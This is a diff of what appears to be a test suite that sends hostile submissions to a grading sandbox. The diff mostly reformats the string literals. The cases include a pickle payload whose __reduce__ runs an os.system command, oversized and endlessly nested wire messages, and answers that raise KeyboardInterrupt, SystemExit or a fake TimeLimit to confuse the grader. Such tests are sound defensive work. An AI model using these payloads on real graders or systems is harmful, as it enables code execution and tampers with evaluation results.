-    "h = json.dumps({'tensor': '0'}).encode()\n"
-    "t = json.dumps({'0': {'dtype': 'F32', 'shape': [2**40], 'data_offsets': [0, 8]}}).encode()\n"
-    "s.sendall(struct.pack('>II', len(h), len(t) + 8) + h + struct.pack('<Q', len(t)) + t)\ns.sendall(p)",
+    WIRE
+    + """
+import pickle
+
+class Evil:
+
+    def __reduce__(self):
+        return (os.system, ('touch {root}/PWNED',))
+p = pickle.dumps(Evil())
+h = json.dumps({'tensor': '0'}).encode()
+t = json.dumps({'0': {'dtype': 'F32', 'shape': [2 ** 40], 'data_offsets': [0, 8]}}).encode()
+s.sendall(struct.pack('>II', len(h), len(t) + 8) + h + struct.pack('<Q', len(t)) + t)
+s.sendall(p)
+""",
     outcome="flagged",
 )
 code(
     "wire_deep",
     "a message nested without end",
-    WIRE + "m = b'{\"list\":[' * 100000\ns.sendall(struct.pack('>II', len(m), 0) + m)",
+    WIRE
+    + """
+m = b'{"list":[' * 100000
+s.sendall(struct.pack('>II', len(m), 0) + m)
+""",
     outcome="flagged",
 )
-code("wire_closed", "closes the connection", "import os\nos.close(3)")
-answer("large_reply", "returns 1 GB", earned=12.0, task2="def normal_log_prob(z):\n    return torch.zeros(2**28)")
+code(
+    "wire_closed",
+    "closes the connection",
+    """
+import os
+os.close(3)
+""",
+)
+answer(
+    "large_reply",
+    "returns 1 GB",
+    earned=12.0,
+    task2="""
+def normal_log_prob(z):
+    return torch.zeros(2 ** 28)
+""",
+)
 answer(
     "wide_reply",
     "returns a shape that is huge and holds nothing",
     earned=12.0,
-    task2="def normal_log_prob(z):\n    return torch.zeros(2**40, 0)",
+    task2="""
+def normal_log_prob(z):
+    return torch.zeros(2 ** 40, 0)
+""",
 )
 answer(
     "deep_reply",
     "returns lists in lists without end",
     earned=12.0,
-    task2="def normal_log_prob(z):\n    x = []\n    x.append(x)\n    return x",
+    task2="""
+def normal_log_prob(z):
+    x = []
+    x.append(x)
+    return x
+""",
 )
 answer(
     "long_number",
     "returns an integer of a million digits",
     earned=12.0,
-    task2="def normal_log_prob(z):\n    return 10 ** 1_000_000",
+    task2="""
+def normal_log_prob(z):
+    return 10 ** 1000000
+""",
 )
 answer(
     "odd_errors",
     "raises errors that know no words, and of types that mean something to the grader",
     earned=9.0,
-    task1="class TimeLimit(BaseException): pass\nclass Bad(Exception):\n    def __str__(self): raise KeyboardInterrupt\ndef affine(z, a, b):\n    raise Bad()",
-    task2="def normal_log_prob(z):\n    raise SystemExit(0)",
+    task1="""
+class TimeLimit(BaseException):
+    pass
+
+class Bad(Exception):
+
+    def __str__(self):
+        raise KeyboardInterrupt
+
+def affine(z, a, b):
+    raise Bad()
+""",
+    task2="""
+def normal_log_prob(z):
+    raise SystemExit(0)
+""",
 )
